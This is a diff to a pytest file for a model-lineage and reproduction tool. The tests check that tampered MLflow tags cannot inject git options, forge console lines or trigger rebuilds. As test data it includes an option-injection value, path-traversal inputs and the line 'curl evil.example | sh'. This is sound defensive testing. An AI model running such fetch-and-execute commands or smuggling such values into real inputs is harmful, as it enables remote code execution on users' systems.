@@ -12,13 +12,15 @@ import pytest
 import yaml
 
 from tasks.commands.fetch import fetch
-from tasks.commands.lineage import describe, lineage
+from tasks.commands.lineage import describe, lineage, print_lineage
 from tasks.commands.rebuild import MARK, compare, verify
 from tasks.commands.reproduction import has_commit, inputs_outside_git, repository_and_prefix, reproduction
 from tasks.core.console import SafeConsole
+from tasks.core.files import content_hash
 from tasks.core.provenance import cpu_model, hash_now, package_versions
 from tasks.models.settings import on_cpu
 from tasks.tracking.registry import Registry
+from tasks.tracking.versions import FILES_TAG
 from tests.tracking.candidates import MODEL, promote
 from tests.tracking.project import DATABASE, SETTINGS
 from tests.tracking.test_registry_verbs import stored
@@ -46,6 +48,43 @@ def test_a_version_without_a_record_of_its_training_is_refused(registry: Registr
     told = refused(tmp_path / "again")
     assert "cannot be made again" in told and "lineage/provenance.json" in told
     assert f"`python -m tasks lineage {CHAMPION}`" in told
+
+
+@pytest.mark.parametrize("option", ["--output=params.yaml", "a" * 41])
+def test_a_tag_that_is_no_commit_never_reaches_git(option: str, registry: Registry, tmp_path: Path):
+    promote("a")
+    registry.client.set_model_version_tag(MODEL, "1", "git_commit", option)
+    before = Path("params.yaml").read_bytes()
+    row = lineage(CHAMPION)
+    assert Path("params.yaml").read_bytes() == before
+    assert row["code"]["git_commit"] is None and "code.git_commit" in row["missing"]
+    assert "its tag git_commit was edited in MLflow" in "".join(row["altered"])
+    assert option not in "".join(row["reproduce"]["commands"])
+    assert "cannot be made again" in refused(tmp_path / "again")
+
+
+def test_a_tag_with_line_ends_forges_no_line_and_no_command(registry: Registry):
+    promote("a")
+    forged = "x\nerror: forged; run:\ncurl evil.example | sh"
+    for tag in ("reason", "snapshot", "environment_drift", "seed", "data_hash.a"):
+        registry.client.set_model_version_tag(MODEL, "1", tag, forged)
+    out = io.StringIO()
+    print_lineage(lineage(CHAMPION), SafeConsole(file=out, width=200))
+    assert "forged" in out.getvalue()
+    assert not [line for line in out.getvalue().splitlines() if line.strip().startswith(("error:", "curl "))]
+
+
+def test_nothing_is_run_of_a_version_whose_params_were_altered_with_the_tag_that_verifies_them(
+    registry: Registry, tmp_path: Path
+):
+    promote("a")
+    (file,) = stored("params.yaml")
+    file.write_text("curate: {source: anybody's}", encoding="utf-8")
+    hashes = json.loads(registry.version(1).tags[FILES_TAG])  # type: ignore[union-attr]
+    altered = json.dumps({**hashes, "params.yaml": content_hash(file)})
+    registry.client.set_model_version_tag(MODEL, "1", FILES_TAG, altered)
+    assert "what verifies its files is not as recorded (tag lineage_files)" in refused(tmp_path / "again")
+    assert not (tmp_path / "again").exists()
 
 
 def test_a_folder_with_other_things_and_a_commit_that_is_nowhere_are_refused_and_nothing_is_left(
@@ -135,7 +174,8 @@ def test_what_a_stage_read_and_git_does_not_hold_is_named(tmp_path: Path, monkey
     git(tmp_path, "init", "-q")
     git(tmp_path, "add", "prices.csv")
     git(tmp_path, "commit", "-q", "-m", "first")
-    data = dict.fromkeys(["prices.csv", "mine.jsonl", "artifacts/assess", "/models/qwen"], "hash")
+    outside = ["/models/qwen", "../mine.jsonl", "data/../../mine.jsonl"]  # it would be written beside the rebuild
+    data = dict.fromkeys(["prices.csv", "mine.jsonl", "artifacts/assess", *outside], "hash")
     assert inputs_outside_git("HEAD", {"curate": {"data": data}}) == ["mine.jsonl"]
 
 
